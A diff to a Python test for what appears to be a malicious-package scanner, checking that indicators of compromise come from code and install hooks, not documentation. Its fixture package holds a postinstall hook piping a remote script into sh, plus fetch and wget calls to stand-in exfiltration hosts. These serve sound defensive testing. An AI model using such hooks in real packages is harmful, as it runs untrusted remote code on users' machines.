@@ -15,12 +15,14 @@ def test_iocs_come_from_code_scripts_and_install_hooks_not_from_documentation() 
         "homepage": "https://github.com/someone/original#readme",
         "scripts": {"postinstall": "curl -s http://203.0.113.9/x.sh | sh"},
     }
-    archive = tar_gz({
-        "package/package.json": json.dumps(manifest, indent=2).encode(),
-        "package/README.md": b"See https://docs.example-original.com/guide for more.\n",
-        "package/index.js": b"// fetch the next stage\nfetch('https://stage.example-exfil.top/n');\n",
-        "package/run.sh": b"#!/bin/sh\nwget https://drop.example-exfil.top/p\n",
-    })  # fmt: skip
+    archive = tar_gz(
+        {
+            "package/package.json": json.dumps(manifest, indent=2).encode(),
+            "package/README.md": b"See https://docs.example-original.com/guide for more.\n",
+            "package/index.js": b"// fetch the next stage\nfetch('https://stage.example-exfil.top/n');\n",
+            "package/run.sh": b"#!/bin/sh\nwget https://drop.example-exfil.top/p\n",
+        }
+    )
     analysis = analyze_archive(archive, "copycat-1.0.0.tgz")
     assert analysis.status == "ok" and analysis.features is not None
     found = {(i.kind, i.value, i.file, i.line) for i in analysis.features.iocs}
